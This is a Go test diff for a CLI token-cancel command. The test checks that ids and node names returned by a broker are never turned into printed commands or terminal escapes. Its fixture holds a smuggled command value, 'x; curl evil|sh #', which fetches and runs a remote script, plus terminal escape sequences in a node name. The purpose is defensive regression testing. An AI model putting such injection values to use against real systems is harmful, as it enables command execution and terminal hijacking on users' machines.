@@ -194,3 +194,34 @@ func TestAnInterruptedCancelNamesItsTokens(t *testing.T) {
 		t.Fatalf("exit %d, want %d", code, exitInterrupted)
 	}
 }
+
+// TestTokenCancelSuggestsNoCommandMadeOfAnAnswersText: the ids read from token.list
+// and those of a token left pending go into commands printed for pasting; an answer
+// a broker passing the pin wrote (a removed control node on the path) put shell text
+// and terminal escapes there (a review). Only ids as the mesh makes them are used,
+// and the rest is printed as text.
+func TestTokenCancelSuggestsNoCommandMadeOfAnAnswersText(t *testing.T) {
+	at := time.Date(2026, 12, 7, 1, 0, 0, 0, time.UTC)
+	good := api.TokenView{ID: "c6dece0fc5dc", Node: "db-1", CreatedAt: at, ExpiresAt: at.Add(time.Hour), State: "pending"}
+	evil := api.TokenView{ID: "x; curl evil|sh #", Node: "db-1\x1b]0;pwn\x07", CreatedAt: at, ExpiresAt: at.Add(time.Hour), State: "pending"}
+	f := &fakeCaller{
+		list:   api.TokenListResult{Tokens: []api.TokenView{good, evil}},
+		answer: api.TokenCancelResult{Node: "db-1", Cancelled: []api.TokenView{good}, StillPending: []api.TokenView{evil}},
+	}
+	var out, errb bytes.Buffer
+	if err := cancelWith(&cliIO{stdout: &out, stderr: &errb}, f, "db-1", nil, false); err != nil {
+		t.Fatal(err)
+	}
+	if len(f.sent) != 1 || strings.Join(f.sent[0].IDs, " ") != good.ID {
+		t.Errorf("sent %+v, want the well-formed id alone", f.sent)
+	}
+	all := out.String() + errb.String()
+	for _, bad := range []string{"curl", "\x1b", "\x07"} {
+		if strings.Contains(all, bad) {
+			t.Errorf("%q printed:\n%s", bad, all)
+		}
+	}
+	if !strings.Contains(errb.String(), "meshctl token list --node db-1 shows it") {
+		t.Errorf("the token left pending is not said:\n%s", errb.String())
+	}
+}
